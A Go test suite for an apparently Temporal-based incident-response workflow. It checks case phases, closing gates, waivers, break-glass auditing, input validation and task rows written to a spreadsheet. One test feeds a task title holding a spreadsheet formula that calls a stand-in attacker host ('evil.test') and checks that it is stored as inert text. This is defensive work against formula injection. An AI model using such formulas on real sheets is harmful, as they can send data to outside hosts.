package workflows_test

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.temporal.io/sdk/testsuite"

	"hikeshi/workflows"
	"hikeshi/workflows/incident"
)

// act is one command of a story, and what it comes to.
type act struct {
	update  string
	command any
	refused string // what the refusal says; empty: it is done
	hint    string // what it says besides, about what to do
}

var (
	aoi      = incident.By{Who: "U0AOI0001", Name: "aoi", Door: incident.DoorSlack, Assurance: incident.SlackSigned}
	somebody = incident.By{Who: "ben", Door: incident.DoorCLI, Assurance: incident.SelfDeclared}
)

// tell gives a case commands one after the other, a second apart, and returns the case as it is after that.
func (w *world) tell(state *workflows.CaseState, acts ...act) (workflows.Status, *workflows.CaseState) {
	w.Helper()
	rolls := state.Rolls // the same id in a later run would be the same command
	return w.live(state, 2*time.Minute, func(env *testsuite.TestWorkflowEnvironment) {
		for i, a := range acts {
			env.RegisterDelayedCallback(func() { w.perform(env, fmt.Sprintf("%s-%d-%d", a.update, rolls, i), a) }, time.Minute+time.Duration(i)*time.Second)
		}
	})
}

func (w *world) perform(env *testsuite.TestWorkflowEnvironment, id string, a act) {
	check := func(err error, answer workflows.Answer) {
		said := answer.Text
		if err != nil {
			said = err.Error()
		}
		if a.refused == "" {
			require.NoError(w, err, "%s %+v", a.update, a.command)
			require.Nil(w, answer.Refused, "%s %+v: %s", a.update, a.command, said)
			return
		}
		require.True(w, err != nil || answer.Refused != nil, "%s %+v is not refused: %s", a.update, a.command, said)
		require.Contains(w, said, a.refused)
		require.Contains(w, said, a.hint)
	}
	env.UpdateWorkflow(a.update, id, &testsuite.TestUpdateCallback{
		OnAccept:   func() {},
		OnReject:   func(err error) { check(err, workflows.Answer{}) },
		OnComplete: func(v any, err error) { answer, _ := v.(workflows.Answer); check(err, answer) },
	}, a.command)
}

func triaged() act {
	return act{update: workflows.TriageUpdate, command: workflows.TriageCommand{Severity: 2, Commander: "@ben", Scope: "3 mailboxes", By: aoi}}
}

// People are told what is missing, and how to go on without it.
func TestClosingTooEarly(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	state, _ := w.intake(report("req-early"))
	closing := func(refused, hint string) act {
		return act{workflows.CloseUpdate, workflows.CloseCommand{Resolution: "contained", By: aoi}, refused, hint}
	}
	status, _ := w.tell(state,
		act{workflows.AnalyzeUpdate, workflows.AnalyzeCommand{Name: "mailbox", Lead: "@chie", By: somebody}, "", ""},
		closing("still missing: scope, conclude a1, containment", "waive scope"),
		triaged(),
		closing("still missing: conclude a1, containment", "conclude"),
		act{workflows.ConcludeUpdate, workflows.ConcludeCommand{Analysis: "a1", Finding: "one sign-in", By: somebody}, "", ""},
		act{workflows.ContainUpdate, workflows.ContainCommand{State: incident.Acting, By: somebody}, "", ""},
		closing("still missing: containment", "contain"),
		act{workflows.WaiveUpdate, workflows.WaiveCommand{Gate: "containment", Reason: "nothing to contain", By: aoi}, "", ""},
		act{workflows.LessonUpdate, workflows.LessonCommand{Text: "no second factor", By: somebody}, "", ""},
		closing("", ""),
		closing("still missing: decide l1", "waive"),
	)
	require.Equal(t, incident.PhaseLessons, status.Phase)
	require.Len(t, status.Waivers, 1)
	require.Equal(t, []string{"decide l1"}, gate(status, "lessons").Missing)
}

func gate(s workflows.Status, name string) incident.Gate {
	for _, g := range s.Gates {
		if g.Name == name {
			return g
		}
	}
	return incident.Gate{}
}

func TestWhatIsNotThere(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	state, _ := w.intake(report("req-absent"))
	long := strings.Repeat("長", 4001)
	status, _ := w.tell(state,
		act{workflows.ConcludeUpdate, workflows.ConcludeCommand{Analysis: "a7", Finding: "x", By: aoi}, `no analysis "a7"`, "status"},
		act{workflows.AnalyzeUpdate, workflows.AnalyzeCommand{Name: "mailbox", By: aoi}, "", ""},
		act{workflows.ConcludeUpdate, workflows.ConcludeCommand{Analysis: "a1", Drop: "wrong track", By: aoi}, "", ""},
		act{workflows.ConcludeUpdate, workflows.ConcludeCommand{Analysis: "a1", Finding: "again", By: aoi}, "dropped already", "new analysis"},
		act{workflows.AnalyzeUpdate, workflows.AnalyzeCommand{Analysis: "a1", Lead: "@ben", By: aoi}, "dropped already", ""},
		act{workflows.ConcludeUpdate, workflows.ConcludeCommand{Analysis: "a1", Finding: "x", Drop: "y", By: aoi}, "not both", ""},
		act{workflows.ConcludeUpdate, workflows.ConcludeCommand{Analysis: "a1", By: aoi}, "the finding is missing", ""},
		act{workflows.TaskUpdate, workflows.TaskCommand{Task: "t1", Status: incident.TaskDone, By: aoi}, `no task "t1"`, ""},
		act{workflows.TaskUpdate, workflows.TaskCommand{Title: " \n", By: aoi}, "title is missing", ""},
		act{workflows.TaskUpdate, workflows.TaskCommand{Title: "x", Status: "later", By: aoi}, `unknown status "later"`, ""},
		act{workflows.DecideUpdate, workflows.DecideCommand{Lesson: "l1", As: "theme", By: aoi}, `no lesson "l1"`, ""},
		act{workflows.LessonUpdate, workflows.LessonCommand{Text: long, By: aoi}, "at most 4000 fit", ""},
		act{workflows.LessonUpdate, workflows.LessonCommand{Text: "second factor", By: aoi}, "", ""},
		act{workflows.DecideUpdate, workflows.DecideCommand{Lesson: "l1", As: "accept", By: aoi}, "the reason is missing", ""},
		act{workflows.DecideUpdate, workflows.DecideCommand{Lesson: "l1", As: "accept", Reason: "known", By: aoi}, "", ""},
		act{workflows.DecideUpdate, workflows.DecideCommand{Lesson: "l1", As: "theme", By: aoi}, "decided already", ""},
		act{workflows.ContainUpdate, workflows.ContainCommand{State: "maybe", By: aoi}, `unknown containment "maybe"`, ""},
		act{workflows.PublishUpdate, workflows.PublishCommand{Text: "", By: aoi}, "text of the update is missing", ""},
		act{workflows.PublishUpdate, workflows.PublishCommand{Text: "x", Next: -time.Hour, By: aoi}, "next update", ""},
		act{workflows.WaiveUpdate, workflows.WaiveCommand{Gate: "archive", Reason: "x", By: aoi}, "can be waived", "scope"},
		act{workflows.WaiveUpdate, workflows.WaiveCommand{Gate: "scope", By: aoi}, "the reason is missing", ""},
		act{workflows.BackUpdate, workflows.BackCommand{Phase: incident.PhaseAnalysis, Reason: "x", By: aoi}, "is not behind it", ""},
		act{workflows.BackUpdate, workflows.BackCommand{Phase: "archive", Reason: "x", By: aoi}, "back to triage or to analysis", ""},
		act{workflows.ReopenUpdate, workflows.ReopenCommand{Reason: "x", By: aoi}, "is not closed", "back"},
		act{workflows.CloseUpdate, workflows.CloseCommand{By: aoi}, "with a resolution", ""},
		act{workflows.ContainUpdate, workflows.ContainCommand{State: incident.Contained}, "no sender", ""},
	)
	require.Equal(t, incident.PhaseTriage, status.Phase)
	require.Empty(t, status.Tasks)
	require.Equal(t, incident.DecideAccept, status.Lessons[0].As)
}

// Whoever cannot prove who they are may not waive, move back or close, unless they break the glass, in everybody's sight.
func TestBreakGlass(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.place.Operators = "C0CSIRTOPS"
	state, _ := w.intake(report("req-glass"))
	urgent := somebody
	urgent.BreakGlass = "Slack is down"
	status, next := w.tell(state,
		act{workflows.WaiveUpdate, workflows.WaiveCommand{Gate: "scope", Reason: "unknown for days", By: somebody}, "identity is verified", "--break-glass"},
		act{workflows.WaiveUpdate, workflows.WaiveCommand{Gate: "scope", Reason: "unknown for days", By: urgent}, "", ""},
	)
	require.Len(t, status.BrokenGlass, 1)
	require.Equal(t, "Slack is down", status.BrokenGlass[0].Reason)
	require.Empty(t, gate(status, "triage").Missing)
	w.tell(next)
	for _, channel := range []string{status.Links.Channel, "C0CSIRTOPS"} {
		var found bool
		for _, m := range w.slack.Messages(channel) {
			found = found || strings.Contains(m.Text, "Slack is down")
		}
		require.True(t, found, "it is told in %s", channel)
	}
}

// Sent back to triage, a case does not move on by itself until somebody has said anew how bad it is.
func TestBackToTriage(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	state, _ := w.intake(report("req-back"))
	status, next := w.tell(state, triaged(),
		act{workflows.BackUpdate, workflows.BackCommand{Phase: incident.PhaseTriage, Reason: "a second company is concerned", By: aoi}, "", ""})
	require.Equal(t, incident.PhaseTriage, status.Phase)
	require.Equal(t, []string{"reassessment"}, gate(status, "triage").Missing)
	status, _ = w.tell(next, act{workflows.TriageUpdate, workflows.TriageCommand{Severity: 1, By: aoi}, "", ""})
	require.Equal(t, incident.PhaseAnalysis, status.Phase)
	require.Equal(t, incident.Sev1, status.Severity)
}

// Tasks go to the sheet, row by row, and people's own cells stay as they are.
func TestTasksInTheSheet(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	state, _ := w.intake(report("req-tasks"))
	status, next := w.tell(state,
		act{workflows.TaskUpdate, workflows.TaskCommand{Title: "Block the sender", Owner: "@ben", Due: "today", By: aoi}, "", ""},
		act{workflows.TaskUpdate, workflows.TaskCommand{Title: "=IMPORTXML(\"http://evil.test\")", By: aoi}, "", ""},
	)
	require.Len(t, status.Tasks, 2)
	grid := w.sheets.Grid(status.Links.Sheet, 101)
	require.Equal(t, []string{"t1", "Block the sender", "@ben", "today", "todo"}, grid[1][:5])
	require.Equal(t, `=IMPORTXML("http://evil.test")`, grid[2][1], "text, not a formula")
	w.tell(next, act{workflows.TaskUpdate, workflows.TaskCommand{Task: "t1", Status: incident.TaskDone, By: aoi}, "", ""})
	grid = w.sheets.Grid(status.Links.Sheet, 101)
	require.Equal(t, "done", grid[1][4])
	require.Equal(t, "todo", grid[2][4])
}

// The carried state stays small with everything that a large case may hold.
func TestStateOfALargeCase(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	req := report("req-huge")
	req.Report = strings.Repeat("報", incident.MaxReport)
	for i := range 50 {
		req.Organisations = append(req.Organisations, fmt.Sprintf("Company %d K.K.", i))
		w.place.Organisations = append(w.place.Organisations, incident.UnlistedOrganisation(req.Organisations[i]))
	}
	state, _ := w.intake(req)
	_, state = w.live(state, time.Minute)
	random := rand.New(rand.NewPCG(1, 2)) // words of people compress better than these
	words := func(n int) string {
		text := make([]byte, n/2)
		for i := range text {
			text[i] = byte(random.Uint32())
		}
		return hex.EncodeToString(text)
	}
	large := map[string][]map[string]any{}
	for i := range 300 {
		large["tasks"] = append(large["tasks"], map[string]any{"id": fmt.Sprintf("t%d", i), "title": words(80), "owner": words(16), "due": "2026-12-01", "status": "todo", "by": "aoi", "at": time.Now()})
	}
	for i := range 60 {
		large["lessons"] = append(large["lessons"], map[string]any{"id": fmt.Sprintf("l%d", i), "text": words(400), "by": "aoi", "at": time.Now(), "as": "accept", "reason": words(200)})
	}
	for i := range 30 {
		large["analyses"] = append(large["analyses"], map[string]any{"id": fmt.Sprintf("a%d", i), "name": words(40), "lead": "chie", "hypothesis": words(300), "finding": words(600), "state": "concluded", "opened": time.Now()})
	}
	raw, err := json.Marshal(large)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(raw, state))
	status, state := w.live(state, 2*time.Minute)
	require.Len(t, status.Tasks, 300)
	require.Len(t, status.Lessons, 60)
	require.Len(t, status.Analyses, 30)
	size := w.sealed(state)
	t.Logf("the state has %d KiB, compressed and encrypted", size>>10)
	require.Less(t, size, 256<<10)
}
